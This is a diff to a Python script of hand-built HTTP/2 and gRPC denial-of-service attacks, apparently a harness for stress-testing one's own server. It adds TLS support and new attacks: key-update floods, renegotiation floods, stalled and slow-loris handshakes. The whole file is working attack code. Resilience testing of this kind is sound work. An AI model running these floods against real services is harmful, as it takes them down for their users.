@@ -3,8 +3,9 @@
     attacks.py NAME ADDRESS SECONDS SEED [MESSAGE]     one attack; prints a JSON object of what it did
     attacks.py --list
 
-ADDRESS is host:port or unix:/path. SEED: of all that is random, drawn for each connection apart, so that timing changes nothing of it. MESSAGE: hex of a
-gRPC message for the attacks that need a valid one. HTTP/2 is made here frame by frame, since a client library would not send what these send.
+ADDRESS is host:port, tls:host:port or unix:/path. SEED: of all that is random, drawn for each connection apart, so that timing changes nothing of it.
+MESSAGE: hex of a gRPC message for the attacks that need a valid one. HTTP/2 is made here frame by frame, since a client library would not send what these
+send.
 """
 
 import contextlib
@@ -16,6 +17,8 @@ import struct
 import sys
 import time
 import zlib
+
+import tls_client
 
 DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -32,6 +35,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # A client that takes as much as anybody likes to send.
 GREEDY = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000))
 OPENING = PREFACE + frame(SETTINGS, 0, 0)
+SETTLED = OPENING + frame(SETTINGS, 1, 0)  # the server's settings are acknowledged, and hold
 
 
 def integer(value, bits, first=0):
@@ -67,7 +71,9 @@ def message(data, compressed=0):
 
 
 def connect(address):
-    if address.startswith("unix:"):
+    if address.startswith("tls:"):
+        made = tls_client.wrap(connect(address[len("tls:"):]))
+    elif address.startswith("unix:"):
         made = socket.socket(socket.AF_UNIX)
         made.settimeout(5)
         made.connect(address[len("unix:"):])
@@ -182,6 +188,7 @@ FLOODS = {
     "continuation": (continuation, {}),
     "header bomb": (header_bomb, {}),
     "streams held": (held_streams, {}),
+    "streams held, settled": (held_streams, {"opening": SETTLED}),
     "empty data": (empty_data, {}),
     "oversized frames": (lambda client: b"\xff\xff\xff" + bytes((client.count % 11, 0)) + struct.pack(">I", 1) + client.rng.randbytes(1 << 14), {}),
     "random bytes": (lambda client: client.rng.randbytes(4096), {"opening": b""}),
@@ -292,6 +299,42 @@ def never_read(address, seconds, _seed, data):
     return flood(address, seconds, chunk, opening=GREEDY, reads=False)
 
 
+def key_updates(address, seconds):
+    """Asks for new keys all the time, and takes no answer."""
+    sessions, asked, made, end = [], 0, 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        while len(sessions) < CONNECTIONS:
+            with contextlib.suppress(OSError):
+                sessions.append(tls_client.Session(connect(address)))
+                made += 1
+        for session in list(sessions):
+            try:
+                asked += session.update_keys(100)
+            except OSError:
+                session.close()
+                sessions.remove(session)
+    for session in sessions:
+        session.close()
+    return {"key updates": asked, "connections": made}
+
+
+def renegotiations(address, seconds, connections=100):
+    """Sessions of TLS 1.2 that each ask for another handshake, and wait for it."""
+    sessions, made, end = [], 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError):
+            sessions.append(tls_client.Session(connect(address), tls_client.TLS1_2))
+            sessions[-1].renegotiate()
+            made += 1
+        if len(sessions) > connections:
+            sessions.pop(0).close()
+    for session in sessions:
+        session.close()
+    return {"renegotiations": made}
+
+
+# A record of a handshake that never comes to its end, and nearly fills what it promises.
+HELLO = b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(16000)
 SESSION = OPENING + frame(HEADERS, END_HEADERS, 1, request(HEALTH)) + frame(DATA, END_STREAM, 1, message(b""))
 OTHERS = {
     "connects and resets": lambda address, seconds, _seed, _data: resets(address, seconds),
@@ -304,6 +347,13 @@ OTHERS = {
     "compressed bomb": lambda address, seconds, _seed, _data: bomb(address, seconds),
     "streams never read": never_read,
 }
+# On the socket below TLS, whatever the address speaks.
+BELOW_TLS = {
+    "key updates": lambda address, seconds, _seed, _data: key_updates(address, seconds),
+    "renegotiations": lambda address, seconds, _seed, _data: renegotiations(address, seconds),
+    "handshakes that stall": lambda address, seconds, _seed, _data: held(address, seconds, HELLO),
+    "slow-loris handshake": lambda address, seconds, _seed, _data: slow(address, seconds, HELLO),
+}
 
 
 def attack(name, address, seconds, seed, data=b""):
@@ -311,11 +361,11 @@ def attack(name, address, seconds, seed, data=b""):
     if name in FLOODS:
         chunk, more = FLOODS[name]
         return flood(address, seconds, chunk, seed, **more)
-    return OTHERS[name](address, seconds, seed, data)
+    return {**OTHERS, **BELOW_TLS}[name](address, seconds, seed, data)
 
 
 if __name__ == "__main__":
     if sys.argv[1:] == ["--list"]:
-        print("\n".join((*FLOODS, *OTHERS)))
+        print("\n".join((*FLOODS, *OTHERS, *BELOW_TLS)))
     else:
         print(json.dumps(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4]), bytes.fromhex("".join(sys.argv[5:])))))
